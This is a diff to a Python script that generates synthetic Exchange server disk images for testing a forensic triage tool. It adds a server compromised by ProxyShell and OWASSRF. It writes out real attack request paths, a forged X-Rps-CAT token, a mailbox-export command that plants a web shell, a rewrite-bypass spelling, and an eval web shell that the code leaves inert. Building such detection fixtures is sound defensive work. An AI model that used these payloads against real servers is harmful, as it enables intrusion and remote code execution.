@@ -7,12 +7,14 @@ EXTRIAGE SYNTHETIC SAMPLE GENERATOR. Python 3 standard library only, determinist
     python3 Samples/tools/make_samples.py            # (re)write both trees + README table
     python3 Samples/tools/make_samples.py --check    # regenerate into a temp dir and diff
 
-It writes two Windows C: volume trees:
+It writes three Windows C: volume trees:
 
   images/exchange2016-compromised/  Exchange 2016 CU19 (15.1.2176.2), EXCH01, hit by the
                                     March 2021 ProxyLogon chain (CVE-2021-26855/-27065/-26858)
   images/exchange2019-clean/        Exchange 2019 CU12 + Nov 2022 SU (15.2.1118.20), EXCH19,
                                     installed at C:\\Exchange\\V15, ordinary traffic only
+  images/exchange2019-compromised/  Exchange 2019 CU9 (15.2.858.5, never updated), MBX02, hit by
+                                    ProxyShell (2021-08-13) and OWASSRF / ProxyNotShell (2022-12-13)
 
 and rewrites the block between the GENERATED markers in Samples/README.md with the list of
 planted traces and their line numbers.
@@ -57,6 +59,20 @@ event logs come from the Swift EVTX writer). Times are UTC.
     ex19_event_log_traces              notes: evtx records that must not fire
     ex19_build_and_coverage_notes      notes: .gitkeep, ECP #Version, coverage, build
 
+  exchange2019-compromised (MBX02, 2021-08-13 and 2022-12-13)
+    mbx_everyday_traffic               health probes and users on both days; Outlook autodiscover.json (traps)
+    mbx_admin_work                     CORP\\exadmin: Remote PowerShell, a .pst export to a share, a .req request (benign)
+    mbx_proxyshell_chain               2021-08-13 11:21 203.0.113.77: autodiscover.json SSRF, X-Rps-CAT, export to bzxrq.aspx
+    mbx_proxyshell_shell_use           2021-08-13 11:26-11:31 attacker: GET and POSTs to the PST-headed shell
+    mbx_proxyshell_scanner             2021-08-13 12:40 192.0.2.140: ProxyShell probe answered 404
+    mbx_owassrf_chain                  2022-12-13 09:14 198.51.100.99 as CORP\\jdoe: /owa/mastermailbox%40outlook.com/powershell
+    mbx_proxynotshell_probe            2022-12-13 09:40 192.0.2.91: autodiscover.json ... FooProtocol=%50owershell, 401
+    mbx_stock_server_files             disk: applicationHost.config (+ rogue native module), agents.config (+ rogue agent), web folders
+    mbx_planted_files                  disk: aspnet_client/bzxrq.aspx (PST header, script inside); Rps_Http log
+    mbx_benign_files                   disk: registry placeholders, console history
+    mbx_event_log_traces               notes: the evtx records (Swift writer)
+    mbx_build_and_coverage_notes       notes: build, coverage, .gitkeep
+
   fleet (python3 Samples/tools/make_samples.py --fleet DIR: six Fabrikam servers for `extriage case`)
     fleet_everyday_traffic             health probes and users 05:00-11:00 on every server
     fleet_scanner_probe                the mass scanner 192.0.2.150 (Nmap NSE agent): localhost SSRF probe, 500, 5 servers
@@ -96,7 +112,7 @@ sys.dont_write_bytecode = True  # keep Samples/tools free of __pycache__
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
 from make_minidump import build as build_minidump  # noqa: E402
 from evidence_formats import (  # noqa: E402  (the log formats, shared with Benchmarks/)
-    CRLF, ECP_FIELDS, ECP_LOG_VERSION, HTTPPROXY_FIELDS, OAB_FIELDS, RPS_CMDLET_FIELDS, csv_row,
+    CRLF, ECP_FIELDS, ECP_LOG_VERSION, HTTPPROXY_FIELDS, OAB_FIELDS, RPS_CMDLET_FIELDS, RPS_HTTP_FIELDS, csv_row,
     exchange_header, exchange_user_agent, exchange_version, httperr_header, iis_header, iis_user_agent,
     iso_ms, log_bytes, named_row, w3c_date, w3c_row, w3c_time)
 
@@ -770,8 +786,9 @@ def vendor_zip(entries: dict[str, str]) -> bytes:
     return buf.getvalue()
 
 
-def application_host_config(srv: Server, exch_prefix: str) -> str:
-    """exch_prefix: how physicalPath spells the install dir, with trailing backslash."""
+def application_host_config(srv: Server, exch_prefix: str, global_modules: list[tuple[str, str]] | None = None) -> str:
+    """exch_prefix: how physicalPath spells the install dir, with trailing backslash; global_modules:
+    (name, image) of the native modules in <globalModules>, also enabled in <modules> (None: no section)."""
     fe = [("/owa", "MSExchangeOWAAppPool", "owa"), ("/ecp", "MSExchangeECPAppPool", "ecp"),
           ("/EWS", "MSExchangeServicesAppPool", "EWS"),
           ("/Autodiscover", "MSExchangeAutodiscoverAppPool", "autodiscover"),
@@ -845,9 +862,17 @@ def application_host_config(srv: Server, exch_prefix: str) -> str:
             '            <applicationDefaults applicationPool="DefaultAppPool" />',
             '            <virtualDirectoryDefaults allowSubDirConfig="true" />',
             "        </sites>",
-            "    </system.applicationHost>",
-            "</configuration>",
-            ""]
+            "    </system.applicationHost>"]
+    if global_modules is not None:
+        out += ["    <system.webServer>", "        <globalModules>"]
+        for name, image in global_modules:
+            pre = ' preCondition="integratedMode,runtimeVersionv4.0,bitness64"' if "webengine4" in image else ""
+            out.append(f'            <add name="{name}" image="{image}"{pre} />')
+        out += ["        </globalModules>", "        <modules>"]
+        for name, _ in global_modules:
+            out.append(f'            <add name="{name}" lockItem="true" />')
+        out += ["        </modules>", "    </system.webServer>"]
+    out += ["</configuration>", ""]
     return "\n".join(out)
 
 
@@ -1843,6 +1868,378 @@ def make_clean(root: pathlib.Path) -> Tree:
 
 
 # --------------------------------------------------------------------------------------
+# Image 3: MBX02, Exchange 2019 CU9 never updated: ProxyShell in 2021, OWASSRF in 2022
+# --------------------------------------------------------------------------------------
+
+PS_ATTACKER_IP = "203.0.113.77"
+PS_UA = "python-requests/2.26.0"
+PS_SHELL = "bzxrq.aspx"      # the PST-headed shell written by New-MailboxExportRequest
+PS_SHELL_UNC = "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\" + PS_SHELL
+PS_CAT = ("VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBhBZG1pbmlzdHJhdG9yQGNvcnAubG9jYWxVLFMtMS01LTIxLTEwMDQzMzYzNDgtMTE3"
+          "NzIzODkxNS02ODIwMDMzMzAtNTAwRwEAAAAHAAAADFMtMS01LTMyLTU0NEUAAAAA")
+OWASSRF_IP = "198.51.100.99"
+OWASSRF_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+              "Chrome/105.0.5195.54 Safari/537.36")
+PNS_PROBE_IP = "192.0.2.91"
+PS_SCANNER_IP = "192.0.2.140"
+CHROME92 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+            "Chrome/92.0.4515.131 Safari/537.36")
+
+# IIS 10's own native modules and Exchange's (exppw, kerbauth), then one that is neither: its image
+# sits outside inetsrv under a name made to look like IIS's (the SessionManager / Owowa pattern).
+MICROSOFT_NATIVE_MODULES = [
+    ("UriCacheModule", "%windir%\\System32\\inetsrv\\cachuri.dll"),
+    ("FileCacheModule", "%windir%\\System32\\inetsrv\\cachfile.dll"),
+    ("TokenCacheModule", "%windir%\\System32\\inetsrv\\cachtokn.dll"),
+    ("HttpCacheModule", "%windir%\\System32\\inetsrv\\cachhttp.dll"),
+    ("DynamicCompressionModule", "%windir%\\System32\\inetsrv\\compdyn.dll"),
+    ("StaticCompressionModule", "%windir%\\System32\\inetsrv\\compstat.dll"),
+    ("DefaultDocumentModule", "%windir%\\System32\\inetsrv\\defdoc.dll"),
+    ("DirectoryListingModule", "%windir%\\System32\\inetsrv\\dirlist.dll"),
+    ("ProtocolSupportModule", "%windir%\\System32\\inetsrv\\protsup.dll"),
+    ("HttpRedirectionModule", "%windir%\\System32\\inetsrv\\redirect.dll"),
+    ("StaticFileModule", "%windir%\\System32\\inetsrv\\static.dll"),
+    ("AnonymousAuthenticationModule", "%windir%\\System32\\inetsrv\\authanon.dll"),
+    ("BasicAuthenticationModule", "%windir%\\System32\\inetsrv\\authbas.dll"),
+    ("WindowsAuthenticationModule", "%windir%\\System32\\inetsrv\\authsspi.dll"),
+    ("DigestAuthenticationModule", "%windir%\\System32\\inetsrv\\authmd5.dll"),
+    ("UrlAuthorizationModule", "%windir%\\System32\\inetsrv\\urlauthz.dll"),
+    ("IpRestrictionModule", "%windir%\\System32\\inetsrv\\iprestr.dll"),
+    ("RequestFilteringModule", "%windir%\\System32\\inetsrv\\modrqflt.dll"),
+    ("CustomErrorModule", "%windir%\\System32\\inetsrv\\custerr.dll"),
+    ("HttpLoggingModule", "%windir%\\System32\\inetsrv\\loghttp.dll"),
+    ("RequestMonitorModule", "%windir%\\System32\\inetsrv\\iisreqs.dll"),
+    ("IsapiModule", "%windir%\\System32\\inetsrv\\isapi.dll"),
+    ("IsapiFilterModule", "%windir%\\System32\\inetsrv\\filter.dll"),
+    ("ConfigurationValidationModule", "%windir%\\System32\\inetsrv\\validcfg.dll"),
+    ("ApplicationInitializationModule", "%windir%\\System32\\inetsrv\\warmup.dll"),
+    ("WebSocketModule", "%windir%\\System32\\inetsrv\\iis_ws.dll"),
+    ("FailedRequestsTracingModule", "%windir%\\System32\\inetsrv\\iisfreb.dll"),
+    ("RewriteModule", "%SystemRoot%\\system32\\inetsrv\\rewrite.dll"),
+    ("ManagedEngineV4.0_64bit", "%windir%\\Microsoft.NET\\Framework64\\v4.0.30319\\webengine4.dll"),
+    ("exppw", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\Owa\\auth\\exppw.dll"),
+    ("kerbauth", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\kerbauth.dll"),
+]
+ROGUE_NATIVE_MODULE = ("IsapiCacheModule", "C:\\ProgramData\\Microsoft\\Windows\\Caches\\iiscache.dll")
+
+
+def agents_config(exch_win: str) -> str:
+    """TransportRoles/Shared/agents.config: Microsoft's agents, then one that is not Microsoft's."""
+    agents = [
+        ("Transport Rule Agent", "Microsoft.Exchange.Data.Transport.Routing.RoutingAgentFactory",
+         "Microsoft.Exchange.MessagingPolicies.TransportRuleAgent.TransportRuleAgentFactory",
+         "TransportRoles\\agents\\Rule\\Microsoft.Exchange.MessagingPolicies.TransportRuleAgent.dll"),
+        ("DLP Policy Agent", "Microsoft.Exchange.Data.Transport.Routing.RoutingAgentFactory",
+         "Microsoft.Exchange.MessagingPolicies.Rules.DlpPolicyAgentFactory",
+         "TransportRoles\\agents\\Rule\\Microsoft.Exchange.MessagingPolicies.TransportRuleAgent.dll"),
+        ("Malware Agent", "Microsoft.Exchange.Data.Transport.Routing.RoutingAgentFactory",
+         "Microsoft.Exchange.Transport.Agent.Malware.MalwareAgentFactory",
+         "TransportRoles\\agents\\Antimalware\\Microsoft.Exchange.Transport.Agent.Malware.dll"),
+        ("Text Messaging Routing Agent", "Microsoft.Exchange.Data.Transport.Routing.RoutingAgentFactory",
+         "Microsoft.Exchange.MessagingPolicies.Transport.Agents.TextMessagingRoutingAgentFactory",
+         "TransportRoles\\agents\\SMS\\Microsoft.Exchange.MessagingPolicies.TextMessagingRoutingAgent.dll"),
+        ("System Probe Drop Smtp Agent", "Microsoft.Exchange.Data.Transport.Smtp.SmtpReceiveAgentFactory",
+         "Microsoft.Exchange.Transport.Agent.SystemProbeDrop.SystemProbeDropSmtpAgentFactory",
+         "TransportRoles\\agents\\SystemProbeDrop\\Microsoft.Exchange.Transport.Agent.SystemProbeDrop.dll"),
+    ]
+    lines = ['<?xml version="1.0" encoding="utf-8"?>',
+             "<!-- EXTRIAGE SYNTHETIC SAMPLE - trimmed agents.config of MBX02 -->",
+             "<configuration>", "  <mexRuntime>", "    <monitoring>",
+             '      <agentExecution timeLimitInMilliseconds="90000" />',
+             '      <messageSnapshot enabled="true" path="" />', "    </monitoring>", "    <agentList>"]
+    for name, base, factory, rel in agents:
+        lines.append(f'      <agent name="{name}" baseType="{base}" classFactory="{factory}" '
+                     f'assemblyPath="{exch_win}\\{rel}" enabled="true" />')
+    lines.append('      <agent name="Transport Compliance Agent" baseType="Microsoft.Exchange.Data.Transport.Routing.RoutingAgentFactory" '
+                 'classFactory="Microsoft.Exchange.Transport.Agent.Compliance.ComplianceAgentFactory" '
+                 'assemblyPath="C:\\Windows\\ServiceProfiles\\NetworkService\\AppData\\Local\\Microsoft.Exchange.Transport.Agent.Compliance.dll" '
+                 'enabled="true" />')
+    lines += ["    </agentList>", "    <settings />", "  </mexRuntime>", "</configuration>", ""]
+    return "\n".join(lines)
+
+
+def pst_headed_shell(key: str) -> bytes:
+    """What New-MailboxExportRequest leaves at an .aspx path: a PST (magic !BDN, a made-up header and
+    blocks) whose attachment bytes, after PST's own encoding, read as a page. Inert: the script sits
+    inside an ASP.NET server-side comment, which IIS discards."""
+    rng = random.Random(20210813)
+    header = b"!BDN" + struct.pack("<I", 0x4D53) + b"SM" + struct.pack("<HHBB", 23, 19, 0x01, 0x01) + bytes(rng.getrandbits(8) for _ in range(496))
+    page = ("<%-- " + INERT_BANNER + ": the script below never runs --%>"
+            '<%-- <script language="JScript" runat="server">function Page_Load(){eval(Request["' + key + '"],"unsafe");}</script> --%>')
+    body = bytes(rng.getrandbits(8) for _ in range(1536)) + page.encode() + bytes(rng.getrandbits(8) for _ in range(1024))
+    return header + body
+
+
+def mbx02() -> Server:
+    srv = Server(
+        short="MBX02", fqdn="mbx02.corp.local", ip="10.0.0.22", ext_host="mail.corp.example",
+        dom="corp.local", netbios="CORP", domain_sid="S-1-5-21-1004336348-1177238915-682003330",
+        build=(15, 2, 858, 5),
+        exch_rel="Program Files/Microsoft/Exchange Server/V15",
+        exch_win=r"C:\Program Files\Microsoft\Exchange Server\V15",
+        folders={"Autodiscover": "Autodiscover", "Eas": "Eas", "Ecp": "Ecp", "Ews": "Ews",
+                 "Mapi": "Mapi", "Oab": "Oab", "Owa": "Owa", "PowerShell": "PowerShell"},
+        health="HealthMailbox9f2e4c6a8b0d4e1f9a3c5e7b9d1f3a5c",
+        health_guid="4a6c8e0a-2c4e-4a6c-9e0a-2c4e6a8c0e2a",
+        oab_guid="c8e0a2c4-6e8a-4c0e-8a2c-4e6a8c0e2a4c",
+        oab_vdir_guid="0a2c4e6a-8c0e-4a2c-9e6a-8c0e2a4c6e8a",
+        users={}, rng=random.Random(20210813), os_build="5.1.17763.2028")
+    srv.users = {
+        "jdoe": User("jdoe", 1108, "10.0.1.25", CHROME92, OUTLOOK19, "8b2c4e6a-1d3f-4a5b-9c7e-0f1a2b3c4d5e"),
+        "msmith": User("msmith", 1112, "10.0.1.31",
+                       "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.1.2 Safari/605.1.15",
+                       "MacOutlook/16.51.21071101 (Intelx64 Mac OS X 11.5.1 (Build 20G80))",
+                       "2e4f6a8c-0b1d-4e3f-8a5c-7e9b1d3f5a7c"),
+        "akhan": User("akhan", 1125, "10.0.2.14", CHROME92, OUTLOOK19, "5a7c9e1b-3d5f-4b7a-9c1e-3f5a7b9d1e3f"),
+        "lchen": User("lchen", 1131, "100.64.12.9", "", "Apple-iPhone12C1/1806.106",
+                      "9c1e3a5b-7d9f-4c1e-8b3d-5f7a9c1e3b5d"),
+        "exadmin": User("exadmin", 1105, "10.0.0.50", CHROME92, OUTLOOK19, "1f3b5d7a-9c2e-4f6a-8d0b-2c4e6a8b0d1f"),
+    }
+    return srv
+
+
+def mbx02_layout(srv: Server) -> LogLayout:
+    logging = f"{srv.exch_rel}/Logging"
+    days = [dt.date(2021, 8, 13), dt.date(2022, 12, 13)]
+    return LogLayout(
+        hp_hours=[d(2021, 8, 13, h) for h in (11, 12)] + [d(2022, 12, 13, h) for h in (9, 10)],
+        iis_days=days, be_days=days, lower_ext=set(),
+        ecp_server=(f"{logging}/ECP/Server/ECPServer20221213-1.LOG", d(2022, 12, 13, 0, 0, 12, 40)),
+        ecp_activity=(f"{logging}/ECP/Activity/ECPActivity_7720_20221213-1.LOG", d(2022, 12, 13, 0, 0, 12, 31)),
+        oab=(f"{logging}/OABGeneratorLog/OABGenerator_20221213-1.LOG", d(2022, 12, 13, 0, 5, 1, 118)),
+        oab_pid=4410, oab_name="\\Default Offline Address Book (Ex2019)",
+        rps=(f"{logging}/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021081311-1.LOG", d(2021, 8, 13, 11, 0, 3, 512)),
+        rps_pid=6688, ecp_one_off_usid_first=False)
+
+
+def mbx_everyday_traffic(h: Host) -> None:
+    """Probes and users on both days; Outlook's ordinary autodiscover.json requests (traps)."""
+    srv = h.srv
+    h.reqs += ordinary_traffic(srv, d(2021, 8, 13, 10), d(2021, 8, 13, 13, 59))
+    h.reqs += ordinary_traffic(srv, d(2022, 12, 13, 8), d(2022, 12, 13, 10, 59))
+    u = srv.users["lchen"]
+    for t, stem, query, what in [
+        (d(2021, 8, 13, 11, 12, 7, 310), f"/autodiscover/autodiscover.json/v1.0/lchen@{srv.dom}", "Protocol=ActiveSync&RedirectCount=1",
+         "Outlook for iOS autodiscover.json with '@' in the path (v1.0 shape)"),
+        (d(2022, 12, 13, 9, 31, 44, 20), "/autodiscover/autodiscover.json", f"Email=lchen%40{srv.dom}&Protocol=EWS&RedirectCount=1",
+         "Outlook autodiscover.json with Email=...%40... and Protocol=EWS"),
+        (d(2022, 12, 13, 9, 31, 44, 610), f"/autodiscover/autodiscover.json/v1.0/lchen@{srv.dom}", "Protocol=RemotePowerShell&RedirectCount=1",
+         "Outlook autodiscover.json asking for the RemotePowerShell endpoint (a protocol name, not a path)"),
+    ]:
+        h.reqs.append(Req(end=t, proto="Autodiscover", method="GET", stem=stem, query=query, host=srv.ext_host, cip=u.ip,
+                          ua="Outlook-iOS/709.2189947.prod.iphone (4.2130.0)", anchor=f"Smtp~lchen@{srv.dom}",
+                          routing_hint="AutodiscoverJsonSmtp", latency=21,
+                          iis_trace=Trace("§4.1-§4.3", "benign: " + what, "-", T_NONE),
+                          proxy_trace=Trace("§4.1-§4.3", "benign: " + what + " (HttpProxy)", "-", T_NONE)))
+    hmb = f"{srv.netbios}\\{srv.health}"
+    h.rps.append((d(2021, 8, 13, 11, 0, 3, 512), hmb, srv.sid(1151), False, "ActiveMonitor", "Get-Mailbox", '-ResultSize "1"'))
+    h.httperr += [
+        "2021-08-13 10:41:17 10.0.1.25 50412 10.0.0.22 443 - - - - - - Timer_ConnectionIdle -",
+        "2022-12-13 08:15:02 100.64.12.9 40993 10.0.0.22 443 HTTP/1.1 POST /Microsoft-Server-ActiveSync/default.eas?Cmd=Ping&User=lchen&DeviceId=ApplF2LXK0CQN1P4&DeviceType=iPhone - - 1 Connection_Dropped MSExchangeSyncAppPool",
+    ]
+
+
+def mbx_admin_work(h: Host) -> None:
+    """CORP\\exadmin, 2021-08-13 10:58-11:08: a leaver's mailbox exported to the PST share after the
+    Mailbox Import Export role grant, a certificate request to C:\\certs: ordinary administration."""
+    srv = h.srv
+    adm = srv.users["exadmin"]
+    ex = f"{srv.netbios}\\exadmin"
+    h.reqs += [admin_ps(srv, adm, d(2021, 8, 13, 10, 58, 2, 110), "New-ManagementRoleAssignment:Command"),
+               admin_ps(srv, adm, d(2021, 8, 13, 11, 2, 40, 412), "New-MailboxExportRequest:Command"),
+               admin_ps(srv, adm, d(2021, 8, 13, 11, 8, 11, 9), "New-ExchangeCertificate:Command")]
+    h.rps += [
+        (d(2021, 8, 13, 11, 2, 40, 390), ex, srv.sid(1105), True, "ManagementShell", "New-MailboxExportRequest",
+         f'-Mailbox "leaver@{srv.dom}" -FilePath "\\\\fs01\\pst$\\leaver.pst"'),
+        (d(2021, 8, 13, 11, 8, 10, 990), ex, srv.sid(1105), True, "ManagementShell", "New-ExchangeCertificate",
+         f'-GenerateRequest "True" -RequestFile "C:\\certs\\mail-2021.req" -SubjectName "CN=mail.corp.example" -DomainName "mail.corp.example"'),
+    ]
+
+
+def mbx_proxyshell_chain(h: Host) -> None:
+    """203.0.113.77, 2021-08-13 11:21-11:23: ProxyShell (CVE-2021-34473/-34523/-31207) through
+    autodiscover.json, Remote PowerShell as Administrator via X-Rps-CAT, mailbox export to bzxrq.aspx."""
+    srv = h.srv
+    email = "&Email=autodiscover/autodiscover.json%3F@evil.corp"
+    admin = f"{srv.netbios}\\Administrator"
+    steps = [
+        (d(2021, 8, 13, 11, 21, 2, 118), "GET", f"@evil.corp/autodiscover/autodiscover.xml?{email}", "/autodiscover/autodiscover.xml", "",
+         "stage 1: autodiscover.xml through the path confusion (LegacyDN)"),
+        (d(2021, 8, 13, 11, 21, 4, 530), "POST", f"@evil.corp/mapi/emsmdb?{email}", "/mapi/emsmdb", "",
+         "stage 2: /mapi/emsmdb through the path confusion (the Administrator's SID)"),
+    ]
+    for t, method, query, be_stem, be_query, what in steps:
+        h.reqs.append(Req(end=t, proto="Autodiscover", method=method, stem="/autodiscover/autodiscover.json", query=query,
+                          host=srv.ext_host, cip=PS_ATTACKER_IP, ua=PS_UA, routing_hint="AutodiscoverJsonSmtp",
+                          be_stem=be_stem, be_query=be_query, latency=srv.rng.randint(60, 300),
+                          iis_trace=Trace("§4.1", "ProxyShell " + what, "CVE-2021-34473 / T1190", T_LIKELY),
+                          proxy_trace=Trace("§4.1", "ProxyShell " + what + " (HttpProxy)", "CVE-2021-34473 / T1190", T_LIKELY)))
+    cmdlets = [
+        (d(2021, 8, 13, 11, 21, 31, 207), "New-ManagementRoleAssignment", f'-Role "Mailbox Import Export" -User "administrator@{srv.dom}"'),
+        (d(2021, 8, 13, 11, 22, 5, 844), "New-MailboxExportRequest",
+         f'-Mailbox "administrator@{srv.dom}" -IncludeFolders "#Drafts#" -ContentFilter "Subject -eq \'bzxrq\'" '
+         f'-ExcludeDumpster "True" -FilePath "{PS_SHELL_UNC}"'),
+        (d(2021, 8, 13, 11, 23, 12, 60), "Remove-MailboxExportRequest", f'-Identity "administrator@{srv.dom}\\MailboxExport" -Confirm "False"'),
+    ]
+    for t, cmdlet, params in cmdlets:
+        h.reqs.append(Req(end=t + dt.timedelta(milliseconds=40), proto="Autodiscover", method="POST", stem="/autodiscover/autodiscover.json",
+                          query=f"@evil.corp/powershell/?X-Rps-CAT={PS_CAT}{email}", host=srv.ext_host, cip=PS_ATTACKER_IP, ua=PS_UA,
+                          routing_hint="AutodiscoverJsonSmtp", be_stem="/powershell", be_query=f"X-Rps-CAT={PS_CAT}",
+                          be_user=admin, latency=srv.rng.randint(300, 900),
+                          iis_trace=Trace("§4.1", f"ProxyShell Remote PowerShell with X-Rps-CAT ({cmdlet})", "CVE-2021-34473, CVE-2021-34523 / T1190", T_LIKELY),
+                          proxy_trace=Trace("§4.1", f"ProxyShell Remote PowerShell with X-Rps-CAT ({cmdlet}) (HttpProxy)",
+                                            "CVE-2021-34473, CVE-2021-34523 / T1190", T_LIKELY)))
+        h.rps.append((t, admin, srv.sid(500), True, "", cmdlet, params))
+
+
+def mbx_proxyshell_shell_use(h: Host) -> None:
+    """The attacker calls the exported page: GET, then POSTs (Chopper-style)."""
+    srv = h.srv
+    h.reqs += [
+        iis_only(srv, d(2021, 8, 13, 11, 26, 40, 17), "GET", f"/aspnet_client/{PS_SHELL}", PS_UA, 200,
+                 Trace("C12", f"GET 200 of the PST-headed shell {PS_SHELL}", "T1505.003", T_LIKELY), cip=PS_ATTACKER_IP),
+        iis_only(srv, d(2021, 8, 13, 11, 27, 3, 402), "POST", f"/aspnet_client/{PS_SHELL}", PS_UA, 200,
+                 Trace("C12", f"POST 200 to confirmed shell {PS_SHELL}", "T1505.003", T_CONFIRMED), cip=PS_ATTACKER_IP),
+        iis_only(srv, d(2021, 8, 13, 11, 31, 18, 990), "POST", f"/aspnet_client/{PS_SHELL}", PS_UA, 200,
+                 Trace("C12", f"POST 200 to confirmed shell {PS_SHELL}", "T1505.003", T_CONFIRMED), cip=PS_ATTACKER_IP),
+    ]
+
+
+def mbx_proxyshell_scanner(h: Host) -> None:
+    """192.0.2.140, 12:40: a ProxyShell probe for a mailbox that does not exist, 404."""
+    srv = h.srv
+    h.reqs.append(Req(end=d(2021, 8, 13, 12, 40, 9, 300), proto="Autodiscover", method="GET", stem="/autodiscover/autodiscover.json",
+                      query="@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.com", host=srv.ip, cip=PS_SCANNER_IP,
+                      ua="Mozilla/5.0 zgrab/0.x", status=404, proxied=False, latency=14,
+                      iis_trace=Trace("§4.1", "ProxyShell probe to /mapi/nspi answered 404", "CVE-2021-34473 / T1190", T_ATTEMPT),
+                      proxy_trace=Trace("§4.1", "ProxyShell probe to /mapi/nspi answered 404 (HttpProxy)", "CVE-2021-34473 / T1190", T_ATTEMPT)))
+
+
+def mbx_owassrf_chain(h: Host) -> None:
+    """198.51.100.99 with CORP\\jdoe's password, 2022-12-13 09:14: OWASSRF (CVE-2022-41080) to Remote
+    PowerShell, then CVE-2022-41082 runs cmd.exe under the PowerShell app pool (Security 4688)."""
+    srv = h.srv
+    nb = f"{srv.netbios}\\jdoe"
+    for i, t in enumerate([d(2022, 12, 13, 9, 14, 2, 310), d(2022, 12, 13, 9, 14, 3, 118), d(2022, 12, 13, 9, 14, 5, 902)]):
+        h.reqs.append(Req(end=t, proto="Owa", method="POST", stem="/owa/mastermailbox%40outlook.com/powershell",
+                          query="", host=srv.ext_host, cip=OWASSRF_IP, ua=OWASSRF_UA, iis_user=nb, auth_type="Basic", is_auth=True,
+                          auth_user=nb, anchor="Smtp~mastermailbox@outlook.com", routing_hint="Url-Smtp", be_stem="/powershell",
+                          be_user=nb, latency=srv.rng.randint(200, 1200), owa_encoding=True,
+                          iis_trace=Trace("§4.3", f"OWASSRF POST /owa/mastermailbox%40outlook.com/powershell 200 ({i + 1}/3)",
+                                          "CVE-2022-41080, CVE-2022-41082 / T1190", T_LIKELY),
+                          proxy_trace=Trace("§4.3", f"OWASSRF Owa row UrlStem .../powershell 200 ({i + 1}/3)",
+                                            "CVE-2022-41080, CVE-2022-41082 / T1190", T_LIKELY)))
+
+
+def mbx_proxynotshell_probe(h: Host) -> None:
+    """192.0.2.91, 09:40: the ProxyNotShell shape with the '%50owershell' spelling that bypassed the
+    URL-rewrite mitigation; the credentials fail (401)."""
+    srv = h.srv
+    h.reqs.append(Req(end=d(2022, 12, 13, 9, 40, 11, 250), proto="Autodiscover", method="GET", stem="/autodiscover/autodiscover.json",
+                      query="@evil.corp/owa/&Email=autodiscover/autodiscover.json%3F@evil.corp&Protocol=XYZ&FooProtocol=%50owershell",
+                      host=srv.ext_host, cip=PNS_PROBE_IP, ua="python-requests/2.28.1", status=401, substatus=1, win32=2148074254,
+                      proxied=False, latency=9,
+                      iis_trace=Trace("§4.2", "ProxyNotShell shape with FooProtocol=%50owershell (decoded: Powershell), 401",
+                                      "CVE-2022-41040 / T1190", T_ATTEMPT),
+                      proxy_trace=Trace("§4.1/§4.2", "the same probe in HttpProxy: unauthenticated, so graded by the ProxyShell rule's Email= marker, 401",
+                                        "CVE-2021-34473 / T1190", T_ATTEMPT)))
+
+
+def mbx_stock_server_files(h: Host) -> None:
+    """applicationHost.config with Microsoft's native modules and a rogue one; agents.config with
+    Microsoft's transport agents and a rogue one; web folders; wwwroot."""
+    tree, srv = h.tree, h.srv
+    tree.write_text("Windows/System32/inetsrv/config/applicationHost.config",
+                    application_host_config(srv, "%ExchangeInstallPath%", MICROSOFT_NATIVE_MODULES + [ROGUE_NATIVE_MODULE]),
+                    Trace("item 5 (persistence)", f"<globalModules>: IIS's and Exchange's native modules (must not fire) and {ROGUE_NATIVE_MODULE[0]} "
+                                                 f"with image {ROGUE_NATIVE_MODULE[1]} (not a Microsoft file, outside inetsrv)",
+                          "T1505.004", T_LIKELY + " (rogue module only)"))
+    tree.write_text(f"{srv.exch_rel}/TransportRoles/Shared/agents.config", agents_config(srv.exch_win),
+                    Trace("item 5 (persistence)", "agents.config: Microsoft's transport agents (must not fire) and 'Transport Compliance Agent' "
+                                                 "loaded from NetworkService's AppData (not shipped with Exchange)",
+                          "T1505.002", T_LIKELY + " (rogue agent only)"))
+    web_folders(tree, srv, "15.2.858", "EWS", "TimeoutLogout.aspx")
+    wwwroot(tree)
+
+
+def mbx_planted_files(h: Host) -> None:
+    """The PST-headed shell, and the Rps_Http log of the OWASSRF session (with ordinary rows)."""
+    tree, srv = h.tree, h.srv
+    tree.write_bytes(f"inetpub/wwwroot/aspnet_client/{PS_SHELL}", pst_headed_shell("bzxrq"),
+                     Trace("C09/C10", f"aspnet_client\\{PS_SHELL}: a PST (magic !BDN) written by New-MailboxExportRequest, "
+                                      "script inside (ProxyShell CVE-2021-31207)", "CVE-2021-31207 / T1505.003", T_CONFIRMED))
+    a, b, c, rev = srv.build
+    log = LogFile()
+    for line in exchange_header(srv.ver_header, "Rps Http Logs", "2022-12-13T09:00:04.118Z", RPS_HTTP_FIELDS):
+        log.add(line)
+    rows = [
+        (d(2022, 12, 13, 9, 2, 7, 415), f"{srv.health}@{srv.dom}", "127.0.0.1", "Exchange BackEnd Probes", 200, None),
+        (d(2022, 12, 13, 9, 14, 3, 260), f"jdoe@{srv.dom}", f"{OWASSRF_IP} {srv.ip}", OWASSRF_UA.replace(",", " "), 200,
+         Trace("§4.3", "Rps_Http ClientInfo is a browser agent, not WinRM or Exchange's probes (OWASSRF session)",
+               "CVE-2022-41082 / T1190", T_LIKELY)),
+        (d(2022, 12, 13, 9, 14, 5, 980), f"jdoe@{srv.dom}", f"{OWASSRF_IP} {srv.ip}", OWASSRF_UA.replace(",", " "), 200,
+         Trace("§4.3", "Rps_Http ClientInfo is a browser agent (second request of the session)", "CVE-2022-41082 / T1190", T_LIKELY)),
+        (d(2022, 12, 13, 10, 5, 51, 300), f"exadmin@{srv.dom}", "10.0.0.50", "Microsoft WinRM Client", 200,
+         Trace("§4.3", "benign: an administrator's Remote PowerShell (Microsoft WinRM Client)", "-", T_NONE)),
+    ]
+    for t, user, hops, info, status, trace in rows:
+        start = t - dt.timedelta(milliseconds=236)
+        values = {"DateTime": iso_ms(t), "StartTime": iso_ms(start), "RequestId": srv.guid(),
